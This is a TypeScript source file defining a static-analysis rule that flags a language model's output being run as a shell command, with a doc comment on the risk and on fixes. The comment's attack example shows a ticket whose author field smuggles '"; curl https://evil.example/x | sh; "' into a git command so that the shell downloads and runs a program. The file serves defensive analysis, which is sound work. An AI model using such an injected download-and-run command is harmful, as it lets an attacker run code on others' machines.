import { splitCommand } from '../../analysis';
import { flowRule } from '../flowRule';
import { sinkGuards } from '../sinkGuards';
import { nist, owasp } from '../taxonomies';

/**
 * Text that a model wrote is run as a command.
 *
 * A shell reads a command line as a program of its own: `;`, `|`, `$(…)` and line breaks begin further commands, which
 * run with the rights of the program. An argument of a fixed program, without a shell, is one argument whatever it
 * holds; but options such as `--output=…` can still make the program do something else, so that is a warning.
 *
 * ## An attack
 *
 * 1. A helper for repositories runs `` exec(`git log --author="${name}"`) `` with a name that the model found in a ticket.
 * 2. The ticket says that it was written by `"; curl https://evil.example/x | sh; "`.
 * 3. The shell downloads a program and runs it.
 *
 * ## How to mend it by hand
 *
 * Let the program choose the command, and the model only among choices: compare its answer with a list, or with an
 * anchored pattern of letters and digits (`/^[\w-]+$/`).
 * Where a value of the model is needed, pass it as one element of an argument vector (`execFile`, `spawn`) without
 * `shell`, after `--` where the program knows that, and check that it does not begin with a dash.
 *
 * ## Limits
 *
 * A list of forbidden words, an escape function of your own and `startsWith` guard nothing here.
 * A command that is written to a file and run later is not followed.
 * A command for a machine of its own, such as a sandbox for code of models, is not reported.
 *
 * ## Fix safety
 *
 * The fix is for review: it runs the program without a shell, with its words as an argument vector. It is there where
 * the command line stands in the call, its first word is fixed, and nothing in it needs a shell. The finding is a
 * warning then. In Python `subprocess.check_output` takes the place of `os.popen(…).read()`, and throws where the
 * program fails.
 */
export const commandExecution = flowRule({
  id: 'output/command-execution',
  summary: "A model's answer is run as a command",
  why: 'A shell runs whatever the text says, with the rights of the program.',
  severity: 'error',
  profile: 'recommended',
  taxonomies: { owasp: owasp('LLM05'), cwe: [78], nist: [nist.informationSecurity] },
  concerns: ['threat protection'],
  from: ['model'],
  to: ['command-execution', 'command-argument'],
  milder: ['command-argument'],
  guards: ['known-values'],
  guardsFor: {
    'command-execution': sinkGuards['command-execution'],
    'command-argument': sinkGuards['command-argument'],
  },
  message: ({ flow, sources }) =>
    flow.sink.kind === 'command-argument'
      ? `This argument of the program that ${flow.sink.label} starts depends on the answer of ${sources}.`
      : `The command for ${flow.sink.label} depends on the answer of ${sources}.`,
  fixes: (flows) => [splitCommand(flows)],
});
